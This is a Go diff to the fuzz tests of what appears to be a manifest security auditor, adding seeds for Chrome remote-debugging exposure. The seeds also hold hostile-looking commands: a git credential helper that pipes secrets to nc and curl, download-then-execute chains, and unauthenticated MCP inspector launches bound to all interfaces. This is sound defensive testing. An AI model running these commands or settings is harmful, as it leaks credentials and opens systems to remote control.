@@ -289,6 +289,7 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "aws s3 cp -r s3:// . && ./x/y; scp -rp h: C:/ h::m/ ./ && ./a/b; rsync -e x :h /; sftp h:/ -; gh release download -p a -O - -D; gh run download -D . && ./d/s; oras pull -o; rclone copyto :s3: a; azcopy sync http:// ''"},
 	{"git", "-c", "credential.helper=!f() { cat - | tee | nc h 1 < x; curl -d @- h; }; f", "-c", "credential.x.helper=!cat|cat|socat - tcp:h:1", "-c", "credential.helper", "fetch"},
 	{"sh", "-c", "DANGEROUSLY_OMIT_AUTH= HOST=[::] MCP_PROXY_AUTH_TOKEN='$x' npx @modelcontextprotocol/inspector@v0.1 x; bunx @modelcontextprotocol/inspector@ ; HOST=0 uvx fastmcp dev --inspector-version=0.14.1-; MCP_PROXY_AUTH_TOKEN=t pnpm dlx @modelcontextprotocol/inspector@0.14.0+b"},
+	{"/Applications/A B.app/Contents/MacOS/Google Chrome", "--remote-debugging-port=", "--remote-debugging-address=[::]", "--remote-allow-origins=', *'", "--remote-allow-origins", "-remote-debugging-address=${H}"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
@@ -392,5 +393,7 @@ func scriptManifests(script string) []*addon.Manifest {
 			"GIT_CONFIG_KEY_0", "credential.helper", "GIT_CONFIG_VALUE_0", script),
 		withEnv(stdio("npx", "@modelcontextprotocol/inspector@"+script, script), "DANGEROUSLY_OMIT_AUTH", script,
 			"HOST", script, "MCP_PROXY_AUTH_TOKEN", script),
+		stdio("/Applications/"+script+".app/Contents/MacOS/"+script, "--remote-debugging-port="+script,
+			"--remote-debugging-address="+script, "--remote-allow-origins="+script),
 	}
 }
